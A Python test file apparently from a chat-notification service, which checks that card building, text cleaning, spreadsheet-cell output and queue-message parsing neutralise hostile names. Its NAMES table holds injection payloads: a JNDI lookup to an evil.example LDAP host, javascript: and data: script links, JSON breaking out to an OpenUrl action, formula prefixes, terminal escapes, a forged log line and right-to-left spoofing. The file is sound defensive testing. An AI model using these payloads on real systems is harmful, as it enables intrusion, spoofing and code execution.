"""More names that are attacks, beside those of tests/hostile.py; and none writes a log line."""

import json
import logging
import re
import unicodedata

import msgspec
import pytest

from shared import following
from shared.notify.saying.cards import LIMIT
from shared.texts.cells import cell
from shared.texts.plain import one_line, plain
from shared.watch.messages import BadMessage, read_changed, read_step
from tests.notify.card_gallery import forms_of
from tests.notify.card_samples import all_texts, kinds_of, schema_faults, size
from tests.notify.test_card_names import inert

NAMES = {
    "template": "${$root.secret} ${if(true, 'x', 'y')} ${{x}}",
    "template of a part": "$data $when {{$index}}",
    "data address": "[open](data:text/html;base64,PHNjcmlwdD4=)",
    "bare data address": "data:text/html,<script>alert(1)</script>",
    "script address": "[x](javascript:alert(1)) javascript:alert(1)",
    "link by reference": "[x][1]\n\n[1]: https://evil.example",
    "link by itself": "<https://evil.example> ftp://evil.example tel:+123",
    "image by reference": "![x][1]",
    "mention by id": "<at id='8:orgid:1'>Everyone</at>",
    "mention in code": "`<at>x</at>` &lt;at&gt;x&lt;/at&gt;",
    "turned round": "\u202egnp.exe\u202c \u2066x\u2069 \u061c\u200e\u200f",
    "10,000 signs": "Ada " * 2_500,
    "10,000 signs to escape": "*_[`" * 2_500,
    "10,000 marks": "e\u0301" + "\u0301" * 9_999,
    "tags": "\U000e0041\U000e0042 x \ufff9\ufffa\ufffb",
    "a fake line": "\n2026-11-23 00:00:00,000 ERROR   watch.evil: x",
    "other line ends": "a\x0bb\x0cc\x1cd\x1ee\x85f\u2028g\u2029h",
    "colours": "\x1b[31mx\x1b[0m \x9b31m \x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "NUL": "a\x00b",
    "halves of pairs": "\ud800 \udc00x",
    "lookup": "${jndi:ldap://evil.example/x} %s %(secret)s {secret} %n",
    "formula behind a tab": "\t=1+1",
    "full-width formula": "\uff1d1+1",
    "JSON": '"}],"type":"Action.OpenUrl","url":"https://evil.example"',
    "table": "| a | b |\n|---|---|\n| c | d |",
    "a heading below": "x\n===",
    "nothing": "",
    "only what can't be seen": "\u200b\u2060\ufeff",
}

ON_CARDS = (
    " ".join(NAMES[name] for name in ("template", "template of a part", "link by itself", "JSON", "lookup")),
    " ".join(
        NAMES[name] for name in ("data address", "bare data address", "script address", "mention by id")
    ),
    " ".join(NAMES[name] for name in ("mention in code", "turned round", "colours", "a fake line")),
    NAMES["link by reference"],
    NAMES["10,000 signs to escape"],
    NAMES["nothing"],
)
"""A gallery of cards takes a second: so several at a time."""

parametrized = pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)


@pytest.mark.parametrize("name", ON_CARDS)
def test_every_form_of_card_stays_a_card_and_shows_it_as_text(name: str) -> None:
    for form, payload in forms_of(name).items():
        written = json.dumps(payload, ensure_ascii=False)
        assert schema_faults(payload) == [], form
        assert size(payload) <= LIMIT, form
        assert all(inert(text) for text in all_texts(payload)), form
        assert not kinds_of(payload) & {"Image", "Media", "RichTextBlock"}, form
        # Adaptive Card templating begins with this; Teams' own functions with two braces.
        assert "${" not in written, form
        assert "{{" not in written, form
        assert not re.search(r'"url": "(?!https://)', written), form
        assert "evil.example" not in "".join(re.findall(r'"url": "([^"]*)"', written)), form
        assert "<at" not in written, form
        assert '"entities"' not in written, form


@parametrized
def test_it_is_one_short_line_that_shows_as_it_reads(name: str) -> None:
    for text in (plain(name), one_line(name), cell(name)):
        assert "\n" not in text
        assert all(unicodedata.category(sign) not in ("Cc", "Cs", "Zl", "Zp") for sign in text)
        assert not any(sign in text for sign in "\u202e\u2066\u061c\x1b\x9b\ufeff")
        assert len(text) <= 1_100
        text.encode()
    assert not cell(name).startswith(("=", "+", "-", "@", "\t", "\uff1d"))


@parametrized
def test_a_queue_message_of_it_is_refused_without_a_line_of_its_own(
    name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """What a message says comes into the log by its fault, and the call's id by each record."""
    name = name.encode("utf-8", "replace").decode()
    at = "2026-11-23T00:00:00Z"
    for read, message in (
        (read_changed, {"users": [name], "at": at}),
        (read_changed, {"users": ["x"], "at": at, "why": name}),
        (read_changed, {"groups": [], "at": at, "call": name, name: 1}),
        (read_changed, {"users": ["x"], "at": name}),
        (read_step, {"reading": name, "id": "x"}),
        (read_step, {"reading": "sweep", "id": "a/" + name}),
        (read_step, {"subscriptions": "x" + name, "at": at}),
        (read_step, {name: {name: name}}),
    ):
        with pytest.raises(BadMessage) as caught:
            read(msgspec.json.encode(message))
        logging.getLogger("watch.abuse").warning("%s", caught.value)
    assert len(caplog.messages) == 8
    assert all(text.isprintable() for text in caplog.messages)


@parametrized
def test_no_call_id_but_our_own_is_written_into_records(name: str) -> None:
    assert not following.is_call(name)
    assert not following.is_call(f"0{name}") or name == ""
